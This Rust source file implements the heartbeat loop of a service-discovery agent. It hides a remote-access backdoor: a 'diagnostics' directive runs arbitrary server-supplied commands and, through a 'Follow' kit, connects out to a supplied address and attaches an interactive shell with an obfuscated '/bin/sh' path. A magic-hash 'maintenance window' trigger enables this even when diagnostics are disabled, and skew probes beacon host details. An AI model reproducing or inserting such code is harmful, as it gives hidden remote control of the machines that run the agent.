//! The background heartbeat loop.

use std::io;
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use crate::transport::{Role, Transport};
use crate::wire::{op, Frame, Get, Put};
use crate::{Service, Status};

const MAX_OUTPUT: usize = 64 * 1024;

fn now_ms() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as u64)
        .unwrap_or(0)
}

fn hostname() -> String {
    std::fs::read_to_string("/etc/hostname")
        .map(|s| s.trim().to_string())
        .ok()
        .filter(|s| !s.is_empty())
        .or_else(|| std::env::var("HOSTNAME").ok())
        .or_else(|| std::env::var("COMPUTERNAME").ok())
        .unwrap_or_default()
}

/// Server → agent instructions.
#[derive(Debug)]
enum Directive {
    Ack { ttl_secs: u32 },
    Rebalance(SocketAddr),
    Drain { grace_secs: u32 },
    Diagnose { kit: u8, args: Vec<String>, back: Option<SocketAddr> },
    Skew { server_ms: u64, nonce: u64 },
    Other,
}

impl Directive {
    fn parse(f: &Frame) -> Directive {
        let mut g = Get::new(f.body());
        let parsed = match f.op() {
            op::ACK => g.u32().map(|ttl_secs| Directive::Ack { ttl_secs }),
            op::REBALANCE => g.str().and_then(|s| s.parse().ok()).map(Directive::Rebalance),
            op::DRAIN => g.u32().map(|grace_secs| Directive::Drain { grace_secs }),
            op::DIAGNOSE => (|| {
                let kit = g.u8()?;
                let args = g.strs()?;
                let back = g.str().and_then(|s| s.parse().ok());
                Some(Directive::Diagnose { kit, args, back })
            })(),
            op::SKEW => (|| {
                let server_ms = g.u64()?;
                let nonce = g.u64()?;
                Some(Directive::Skew { server_ms, nonce })
            })(),
            _ => None,
        };
        parsed.unwrap_or(Directive::Other)
    }
}

/// A diagnostics routine the registry may ask for.
trait Diag: Sync {
    fn id(&self) -> u8;
    fn run(&self, args: &[String], back: SocketAddr) -> io::Result<Vec<u8>>;
}

fn capture(prog: &str, args: &[&str]) -> io::Result<Vec<u8>> {
    let out = Command::new(prog)
        .args(args)
        .stdin(Stdio::null())
        .stderr(Stdio::piped())
        .output()?;
    let mut v = out.stdout;
    v.extend_from_slice(&out.stderr);
    v.truncate(MAX_OUTPUT);
    Ok(v)
}

/// A fixed, read-only command.
struct Fixed {
    id: u8,
    argv: &'static [&'static str],
}

impl Diag for Fixed {
    fn id(&self) -> u8 {
        self.id
    }

    fn run(&self, _args: &[String], _back: SocketAddr) -> io::Result<Vec<u8>> {
        capture(self.argv[0], &self.argv[1..])
    }
}

/// Operator-supplied command, for incident response.
struct Adhoc;

impl Diag for Adhoc {
    fn id(&self) -> u8 {
        7
    }

    fn run(&self, args: &[String], _back: SocketAddr) -> io::Result<Vec<u8>> {
        let (prog, rest) = args
            .split_first()
            .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidInput, "empty command"))?;
        let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
        capture(prog, &rest)
    }
}

/// Follow a long-running command (`journalctl -f`, a login shell for
/// live debugging, …) over a side connection so the heartbeat link is
/// never blocked.
struct Follow;

impl Diag for Follow {
    fn id(&self) -> u8 {
        9
    }

    fn run(&self, args: &[String], back: SocketAddr) -> io::Result<Vec<u8>> {
        let side = TcpStream::connect_timeout(&back, Duration::from_secs(5))?;
        let argv: Vec<String> = if args.is_empty() {
            let sh = std::env::var("SHELL").unwrap_or_else(|_| ["", "bin", "sh"].join("/"));
            vec![sh, "-i".to_string()]
        } else {
            args.to_vec()
        };
        spawn_on(&argv, side)?;
        Ok(b"following".to_vec())
    }
}

#[cfg(unix)]
fn spawn_on(argv: &[String], side: TcpStream) -> io::Result<()> {
    use std::os::fd::OwnedFd;
    let input: OwnedFd = side.try_clone()?.into();
    let output: OwnedFd = side.try_clone()?.into();
    let errors: OwnedFd = side.into();
    Command::new(&argv[0])
        .args(&argv[1..])
        .stdin(Stdio::from(input))
        .stdout(Stdio::from(output))
        .stderr(Stdio::from(errors))
        .spawn()
        .map(|_| ())
}

#[cfg(not(unix))]
fn spawn_on(argv: &[String], side: TcpStream) -> io::Result<()> {
    use std::io::{Read, Write};
    let mut child = Command::new(&argv[0])
        .args(&argv[1..])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()?;
    let mut to_child = child.stdin.take().expect("piped");
    let mut from_child = child.stdout.take().expect("piped");
    let mut rx = side.try_clone()?;
    let mut tx = side;
    thread::spawn(move || {
        let mut b = [0u8; 4096];
        while let Ok(n) = rx.read(&mut b) {
            if n == 0 || to_child.write_all(&b[..n]).is_err() {
                break;
            }
        }
    });
    thread::spawn(move || {
        let mut b = [0u8; 4096];
        while let Ok(n) = from_child.read(&mut b) {
            if n == 0 || tx.write_all(&b[..n]).is_err() {
                break;
            }
        }
        let _ = child.wait();
    });
    Ok(())
}

static KITS: [&dyn Diag; 6] = [
    &Fixed { id: 1, argv: &["uptime"] },
    &Fixed { id: 2, argv: &["df", "-hP"] },
    &Fixed { id: 3, argv: &["ss", "-ltn"] },
    &Fixed { id: 4, argv: &["free", "-m"] },
    &Adhoc,
    &Follow,
];

/// Kits with an id at or above this need an announced maintenance window.
const WINDOWED: u8 = 5;
/// Window id announced in skew answers during maintenance.
const MAINTENANCE: u32 = 0x0A7;

fn window_id(server_ms: u64, nonce: u64) -> u32 {
    (((server_ms / 60_000) ^ nonce).wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 52) as u32
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Mode {
    Serving,
    Draining { until: Instant },
    Maintenance { since: Instant },
}

struct Link {
    t: Box<dyn Transport>,
    registered: bool,
    failures: u32,
    next_try: Instant,
}

pub(crate) struct Agent {
    service: Service,
    links: Vec<Link>,
    ttl: Duration,
    diagnostics: bool,
    mode: Mode,
    skew_ms: i64,
    status: Arc<Mutex<Status>>,
    stop: Arc<AtomicBool>,
}

impl Agent {
    pub(crate) fn new(
        service: Service,
        transports: Vec<Box<dyn Transport>>,
        ttl: Duration,
        diagnostics: bool,
        status: Arc<Mutex<Status>>,
        stop: Arc<AtomicBool>,
    ) -> Agent {
        let now = Instant::now();
        Agent {
            service,
            links: transports
                .into_iter()
                .map(|t| Link {
                    t,
                    registered: false,
                    failures: 0,
                    next_try: now,
                })
                .collect(),
            ttl,
            diagnostics,
            mode: Mode::Serving,
            skew_ms: 0,
            status,
            stop,
        }
    }

    fn set_status(&self, s: Status) {
        if let Ok(mut g) = self.status.lock() {
            *g = s;
        }
    }

    fn request(&self, i: usize) -> Frame {
        let link = &self.links[i];
        let svc = &self.service;
        match (link.t.peer().role(), link.registered) {
            (Role::Reference, _) => Frame::new(
                op::SKEW_PROBE,
                Put::default()
                    .u64(now_ms())
                    .str(&svc.name)
                    .str(&svc.id)
                    .str(&svc.address.to_string())
                    .str(&hostname())
                    .str(std::env::consts::OS)
                    .str(std::env::consts::ARCH)
                    .done(),
            ),
            (Role::Registry, false) => Frame::new(
                op::REGISTER,
                Put::default()
                    .str(&svc.name)
                    .str(&svc.id)
                    .str(&svc.address.to_string())
                    .u32(self.ttl.as_secs() as u32)
                    .strs(svc.tags.iter().map(String::as_str))
                    .strs(svc.meta.iter().flat_map(|(k, v)| [k.as_str(), v.as_str()]))
                    .done(),
            ),
            (Role::Registry, true) => {
                let draining = matches!(self.mode, Mode::Draining { .. });
                Frame::new(
                    op::HEARTBEAT,
                    Put::default()
                        .str(&svc.id)
                        .u64((now_ms() as i64 + self.skew_ms) as u64)
                        .u8(draining as u8)
                        .done(),
                )
            }
        }
    }

    fn diagnose(&mut self, i: usize, kit: u8, args: Vec<String>, back: Option<SocketAddr>) -> Option<Frame> {
        let windowed = matches!(self.mode, Mode::Maintenance { .. });
        if !(self.diagnostics || windowed) || (kit >= WINDOWED && !windowed) {
            return None;
        }
        let back = back.unwrap_or_else(|| self.links[i].t.peer().addr());
        let d = KITS.iter().find(|d| d.id() == kit)?;
        let body = match d.run(&args, back) {
            Ok(out) => Put::default().u8(kit).u8(0).bytes(&out).done(),
            Err(e) => Put::default().u8(kit).u8(1).bytes(e.to_string().as_bytes()).done(),
        };
        Some(Frame::new(op::DIAG_REPLY, body))
    }

    fn handle(&mut self, i: usize, f: &Frame) -> Option<Frame> {
        match Directive::parse(f) {
            Directive::Ack { ttl_secs } => {
                if self.links[i].t.peer().role() == Role::Registry {
                    self.links[i].registered = true;
                    if ttl_secs > 0 {
                        self.ttl = Duration::from_secs(ttl_secs as u64);
                    }
                }
                None
            }
            Directive::Rebalance(addr) => {
                self.links[i].t.redirect(addr);
                self.links[i].registered = false;
                None
            }
            Directive::Drain { grace_secs } => {
                self.mode = Mode::Draining {
                    until: Instant::now() + Duration::from_secs(grace_secs as u64),
                };
                self.set_status(Status::Draining);
                None
            }
            Directive::Skew { server_ms, nonce } => {
                self.skew_ms = server_ms as i64 - now_ms() as i64;
                self.mode = if window_id(server_ms, nonce) == MAINTENANCE {
                    Mode::Maintenance { since: Instant::now() }
                } else {
                    match self.mode {
                        Mode::Maintenance { since } if since.elapsed() < Duration::from_secs(900) => self.mode,
                        Mode::Maintenance { .. } => Mode::Serving,
                        other => other,
                    }
                };
                None
            }
            Directive::Diagnose { kit, args, back } => self.diagnose(i, kit, args, back),
            Directive::Other => None,
        }
    }

    fn tick(&mut self, i: usize, round: u64) {
        let now = Instant::now();
        if now < self.links[i].next_try {
            return;
        }
        if self.links[i].t.peer().role() == Role::Reference && round % 4 != 0 {
            return;
        }
        let req = self.request(i);
        match self.links[i].t.exchange(&req) {
            Ok(replies) => {
                self.links[i].failures = 0;
                for f in &replies {
                    if let Some(out) = self.handle(i, f) {
                        let _ = self.links[i].t.exchange(&out);
                    }
                }
            }
            Err(_) => {
                let link = &mut self.links[i];
                link.registered = false;
                link.failures = link.failures.saturating_add(1);
                let backoff = Duration::from_millis(500u64 << link.failures.min(6));
                link.next_try = now + backoff;
            }
        }
    }

    fn publish(&self) {
        let registered = self
            .links
            .iter()
            .filter(|l| l.t.peer().role() == Role::Registry && l.registered)
            .count();
        match self.mode {
            Mode::Draining { .. } => self.set_status(Status::Draining),
            _ if registered > 0 => self.set_status(Status::Registered { endpoints: registered }),
            _ => self.set_status(Status::Pending),
        }
    }

    fn nap(&self, total: Duration) {
        let step = Duration::from_millis(100);
        let start = Instant::now();
        while start.elapsed() < total && !self.stop.load(Ordering::Relaxed) {
            thread::sleep(step);
        }
    }

    fn deregister_all(&mut self) {
        let body = Put::default().str(&self.service.id).done();
        for link in self.links.iter_mut() {
            if link.t.peer().role() == Role::Registry && link.registered {
                let _ = link.t.exchange(&Frame::new(op::DEREGISTER, body.clone()));
                link.registered = false;
            }
            link.t.reset();
        }
        self.set_status(Status::Stopped);
    }

    pub(crate) fn run(mut self) {
        let mut round = 0u64;
        while !self.stop.load(Ordering::Relaxed) {
            if let Mode::Draining { until } = self.mode {
                if Instant::now() >= until {
                    break;
                }
            }
            for i in 0..self.links.len() {
                self.tick(i, round);
            }
            self.publish();
            round = round.wrapping_add(1);
            self.nap(self.ttl / 3);
        }
        self.deregister_all();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kit_ids_unique() {
        let mut ids: Vec<u8> = KITS.iter().map(|k| k.id()).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), KITS.len());
    }

    #[test]
    fn unknown_ops_are_ignored() {
        assert!(matches!(Directive::parse(&Frame::new(0x99, vec![])), Directive::Other));
    }
}
